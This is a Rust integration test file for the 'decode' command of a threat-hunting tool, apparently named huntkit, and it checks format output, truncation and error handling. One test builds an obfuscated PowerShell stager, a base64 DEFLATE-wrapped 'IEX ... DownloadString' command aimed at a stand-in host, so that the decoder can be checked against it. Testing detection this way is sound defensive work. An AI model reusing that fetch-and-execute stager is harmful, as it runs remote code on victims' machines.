//! `huntkit decode` as a user runs it.

use std::io::Write;

mod common;

use common::{data, json_lines};

#[test]
fn decodes_a_column_of_process_events() {
    let file = data("processes_on_host.csv");
    let (out, _) = common::run(
        &[
            "decode",
            &file,
            "--column",
            "CommandLine",
            "--format",
            "json",
        ],
        b"",
    );
    let rows = json_lines(&out);
    assert!(rows.iter().any(|r| r["encoding_type"] == "utf-16"
        && r["decoded_string"]
            .as_str()
            .is_some_and(|s| s.contains("Invoke"))));
}

/// A gzip that inflates to more than the output budget (here 8 MiB): the JSON carries the
/// first bytes as hex, the flag and the hashes of the whole, not 16 MiB of hex.
#[test]
fn binary_content_is_cut_in_text_outputs() {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(&vec![0u8; 1 << 20]).unwrap();
    let member = gz.finish().unwrap();
    let payload = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        member.repeat(10),
    );
    let text = format!("start {payload} end");
    let budget = ["--max-output-bytes", "8388608"];
    let (out, _) = common::run(
        &["decode", "-", "--format", "json", budget[0], budget[1]],
        text.as_bytes(),
    );
    let rows = json_lines(&out);
    assert!(out.stdout.len() < 1 << 20, "{} bytes", out.stdout.len());
    let member = rows.iter().find(|r| r["file_name"] == "gzip_file").unwrap();
    assert_eq!(member["input_bytes"].as_str().unwrap().len(), 2 * 4096);
    assert_eq!(member["input_bytes_truncated"], true);
    assert_eq!(member["status"], "truncated");
    assert_eq!(member["sha256"].as_str().unwrap().len(), 64);

    let (out, _) = common::run(
        &[
            "decode",
            "-",
            "--format",
            "csv",
            "--max-shown-bytes",
            "16",
            budget[0],
            budget[1],
        ],
        text.as_bytes(),
    );
    let csv = String::from_utf8_lossy(&out.stdout);
    assert!(csv
        .lines()
        .next()
        .unwrap()
        .contains("input_bytes,input_bytes_truncated"));
    assert!(csv.contains(",00000000000000000000000000000000,true,"));
}

/// Raw DEFLATE inside base64, PowerShell's DeflateStream stager.
#[test]
fn deflate_stager_from_the_command_line() {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.8/s')")
        .unwrap();
    let payload = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        e.finish().unwrap(),
    );
    let line = format!(
        "powershell -c \"IEX(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream(\
         [IO.MemoryStream][Convert]::FromBase64String('{payload}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\""
    );
    let (out, _) = common::run(&["decode", "-", "--text"], line.as_bytes());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("file_type='deflate'"), "{text}");
    assert!(text.contains("http://192.0.2.8/s"));
}

#[test]
fn every_format_compat_and_bad_values() {
    let file = data("base64msg.txt");
    let (json, _) = common::run(&["decode", &file, "--format", "json"], b"");
    let rows = json_lines(&json);
    assert!(rows.len() >= 8);
    let (csv, _) = common::run(&["decode", &file, "--format", "csv"], b"");
    assert!(String::from_utf8_lossy(&csv.stdout).starts_with("reference,original_string,"));
    let (arrow, _) = common::run(&["decode", &file, "--format", "arrow"], b"");
    assert_eq!(&arrow.stdout[..4], b"\xff\xff\xff\xff");
    let (text, _) = common::run(&["decode", &file, "--format", "text"], b"");
    assert!(text.status.success());
    // MSTICPy's own answer on its test file: eight records of twelve columns.
    let (msticpy, _) = common::run(
        &["decode", &file, "--format", "json", "--compat", "msticpy"],
        b"",
    );
    let rows = json_lines(&msticpy);
    assert_eq!(rows.len(), 8);
    assert_eq!(
        rows[0].as_object().unwrap().len(),
        13,
        "12 columns and the flag"
    );
    let (bad, _) = common::run(&["decode", &file, "--max-depth", "0"], b"");
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("maxDepth"));
    let (not_text, _) = common::run(&["decode", "-"], b"\xff\xfe\x00bad");
    assert_eq!(not_text.status.code(), Some(1));
    let (text_and_column, _) = common::run(&["decode", &file, "--text", "--column", "x"], b"");
    assert_eq!(text_and_column.status.code(), Some(2));
}
